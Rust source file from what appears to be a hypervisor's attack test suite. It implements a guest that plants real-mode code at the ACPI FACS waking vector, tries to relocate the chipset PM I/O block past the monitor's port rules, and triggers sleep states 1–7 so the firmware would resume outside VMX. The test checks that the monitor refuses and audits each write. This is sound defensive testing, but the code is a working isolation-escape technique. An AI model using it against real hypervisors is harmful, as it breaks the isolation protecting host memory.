//! `scenario=sleep`: the attack `acpi-sleep-resume-outside-vmx`. The
//! guest finds the ACPI tables as an OS does (the RSDP in the BIOS area,
//! the RSDT, the FADT, the FACS), writes the address of its own
//! real-mode code (`arch::wake`) into the FACS's firmware waking vector,
//! and writes SLP_EN with each sleep type 1–7 to PM1a control. A machine
//! that goes to sleep is resumed by the firmware at that vector, in real
//! mode and outside VMX, with the monitor's memory in RAM and nothing
//! guarding it (invariant 1).
//!
//! Under okernel the monitor refuses every SLP_EN write whose type is not
//! the platform's soft off (`okernel::exit::platform_ports`), drops it
//! and audits it: the guest keeps running, finds seven new `exit` audit
//! records and reports the attack blocked. The same image with
//! `mode=direct` is the negative control: in Bochs the first write
//! (type 1, its S3) suspends the machine and the BIOS resumes it at the
//! guest's code, which prints the attack's line as `succeeded`. (Type 0
//! is Bochs' soft off, which is not tried: it would end the run.)
//!
//! Before the sleep the guest moves the chipset's PM I/O block (the PCI
//! register holding its base) to 0x1000, so that PM1 control would
//! answer at a port the monitor's rules do not name: under okernel that
//! move is refused (the loader locks the register) and audited too —
//! eight records in all; bare, the move succeeds and the sleep goes to
//! the moved block.

use crate::report::Checks;
use okernel_abi::boot::{EntryMode, GuestMemoryKind, MemoryRegion};

/// Where the waking-vector code goes (usable RAM below 1 MiB).
const PAGE: u64 = 0x9000;
/// Where the attack moves the PM I/O block (a free 128-byte I/O range).
const MOVED_BASE: u32 = 0x1000;

/// A configuration dword of bus 0 through mechanism #1 (also `smm.rs`).
pub(crate) fn config_read(address: u32) -> u32 {
    // SAFETY: configuration mechanism #1; reading a dword has no effect.
    unsafe {
        x86_64::instructions::port::Port::<u32>::new(0xcf8).write(address);
        x86_64::instructions::port::Port::<u32>::new(0xcfc).read()
    }
}

/// Writes a configuration dword (the attacks' own: moving the PM I/O
/// block here, opening SMRAM in `smm.rs`).
pub(crate) fn config_write(address: u32, value: u32) {
    // SAFETY: configuration mechanism #1; the write reconfigures the
    // chipset (what the attacks are).
    unsafe {
        x86_64::instructions::port::Port::<u32>::new(0xcf8).write(address);
        x86_64::instructions::port::Port::<u32>::new(0xcfc).write(value);
    }
}

/// The bus-0 configuration dword holding the PM I/O base `evt` (an I/O
/// base in a function's device-specific space, as PIIX4's PMBA is).
fn pm_base_register(evt: u32) -> Option<u32> {
    (0..32u32 * 8).find_map(|f| {
        let at = |reg: u32| 0x8000_0000 | f << 8 | reg;
        (config_read(at(0)) & 0xffff != 0xffff).then_some(())?;
        (0x40..0x100u32).step_by(4).map(at).find(|&a| {
            let v = config_read(a);
            v & 1 == 1 && v & 0xffff_ff80 == evt & 0xff80 && evt != 0
        })
    })
}
/// PM1 control's SLP_EN (ACPI 6.5 Table 4.13); SLP_TYP is bits 12:10.
const SLP_EN: u16 = 1 << 13;

fn bytes(addr: u64, len: usize) -> &'static [u8] {
    // SAFETY: firmware tables and the BIOS area below 4 GiB, identity-
    // mapped by the hand-off page tables and (under okernel) by the base
    // view's firmware-reserved ranges; only read here.
    unsafe { core::slice::from_raw_parts(addr as *const u8, len) }
}

pub(crate) fn u32_at(b: &[u8], at: usize) -> u32 {
    u32::from_le_bytes([b[at], b[at + 1], b[at + 2], b[at + 3]])
}

/// The RSDP in the BIOS area (ACPI 6.5 §5.2.5.1: on a 16-byte boundary
/// in 0xE0000–0xFFFFF, its first 20 bytes summing to 0).
pub(crate) fn rsdp() -> Option<&'static [u8]> {
    (0xe_0000u64..0x10_0000)
        .step_by(16)
        .map(|a| bytes(a, 20))
        .find(|b| &b[..8] == b"RSD PTR " && b.iter().fold(0u8, |s, x| s.wrapping_add(*x)) == 0)
}

/// The RSDT's table with signature `sig`.
pub(crate) fn table(rsdp: &[u8], sig: &[u8; 4]) -> Option<&'static [u8]> {
    let rsdt = u64::from(u32_at(rsdp, 16));
    let len = u32_at(bytes(rsdt, 8), 4) as usize;
    let rsdt = bytes(rsdt, len.clamp(36, 4096));
    rsdt[36..].chunks_exact(4).find_map(|e| {
        let t = u64::from(u32_at(e, 0));
        let header = bytes(t, 8);
        (&header[..4] == sig).then(|| bytes(t, (u32_at(header, 4) as usize).clamp(36, 4096)))
    })
}

/// Runs the attack and reports it.
pub fn run(checks: &mut Checks, entry: EntryMode, map: &[MemoryRegion]) {
    let usable = map.iter().any(|r| {
        r.kind == GuestMemoryKind::Usable as u32
            && r.base <= PAGE
            && PAGE + 0x1000 <= r.base + r.length
    });
    let found = rsdp()
        .and_then(|r| table(r, b"FACP"))
        .filter(|f| f.len() >= 72);
    let (Some(fadt), true) = (found, usable) else {
        return checks.check(
            "attack-acpi-sleep-resume-outside-vmx",
            1,
            false,
            format_args!("no FADT found, or page {PAGE:#x} not usable RAM"),
        );
    };
    let pm1a = u32_at(fadt, 64) as u16;
    let facs = u64::from(u32_at(fadt, 36));
    let code = crate::arch::wake::code();
    // SAFETY: usable guest RAM below 1 MiB (checked) for the code; the
    // FACS is firmware memory the guest may write (its waking vector is
    // the OS's to set: ACPI 6.5 §5.2.10); both identity-mapped.
    unsafe {
        core::ptr::copy_nonoverlapping(code.as_ptr(), PAGE as *mut u8, code.len());
        core::ptr::write_volatile((facs + 12) as *mut u32, PAGE as u32);
        core::ptr::write_volatile((facs + 24) as *mut u64, 0);
    }
    // The audit log is the monitor's (VMCALL is #UD without one).
    let monitor = entry == EntryMode::NonRoot;
    let before = monitor
        .then(crate::attacks::audit::count)
        .and_then(Result::ok);
    // First move the chipset's PM I/O block (PIIX4's PMBA, ICH's PMBASE:
    // a PCI register whose I/O base is the PM1a event block) to a port
    // the monitor does not watch; then ask for sleep wherever PM1
    // control now answers.
    let pm1a_evt = u32_at(fadt, 56);
    let moved = pm_base_register(pm1a_evt).map(|reg| {
        config_write(reg, MOVED_BASE | 1);
        config_read(reg) & 0xff80 == MOVED_BASE
    });
    let target = if moved == Some(true) {
        (MOVED_BASE as u16).wrapping_add(pm1a.wrapping_sub(pm1a_evt as u16))
    } else {
        pm1a
    };
    for slp_typ in 1u16..=7 {
        // SAFETY: PM1a control, where it now answers; the write asks the
        // platform to sleep (what the attack is).
        unsafe {
            x86_64::instructions::port::Port::<u16>::new(target).write(SLP_EN | slp_typ << 10)
        };
    }
    // Still running: the machine did not sleep.
    let after = monitor
        .then(crate::attacks::audit::count)
        .and_then(Result::ok);
    let new = before.zip(after).map(|(b, a)| a.saturating_sub(b));
    let last = after
        .filter(|&a| a > 0)
        .and_then(|a| crate::attacks::audit::read(a - 1).ok());
    // (`after` is `None` without the monitor, so nothing is read there.)
    // The refused move (one record, at 0xCFC) and the seven refused
    // sleeps at the unmoved PM1 control.
    let audited = moved == Some(false)
        && new == Some(8)
        && last.is_some_and(|r| {
            r.kind == okernel_abi::policy::AuditKind::Exit as u32
                && r.qualification >> 16 == u64::from(pm1a)
        });
    let ok = entry == EntryMode::NonRoot && audited;
    let mut seen = crate::report::Buf::new();
    match last {
        Some(r) => seen.set(format_args!(
            "kind {} qualification {:#x}",
            r.kind, r.qualification
        )),
        None => seen.set(format_args!("unreadable")),
    }
    checks.attack(
        "acpi-sleep-resume-outside-vmx",
        1,
        ok,
        format_args!(
            "waking vector {PAGE:#x} in the FACS at {facs:#x}; PM I/O base moved to {MOVED_BASE:#x}: {}; SLP_EN with types 1-7 to PM1a control at {target:#x}: the machine did not sleep",
            match moved {
                Some(true) => "done",
                Some(false) => "refused (it reads back unmoved)",
                None => "no PCI register holds it",
            }
        ),
        match entry {
            EntryMode::NonRoot => "protected",
            EntryMode::Direct => "no-monitor",
        },
        "blocked",
        true,
        format_args!(
            "{} new audit records, the last {}",
            new.map_or(-1, |n| n as i64),
            seen.as_str()
        ),
    );
}
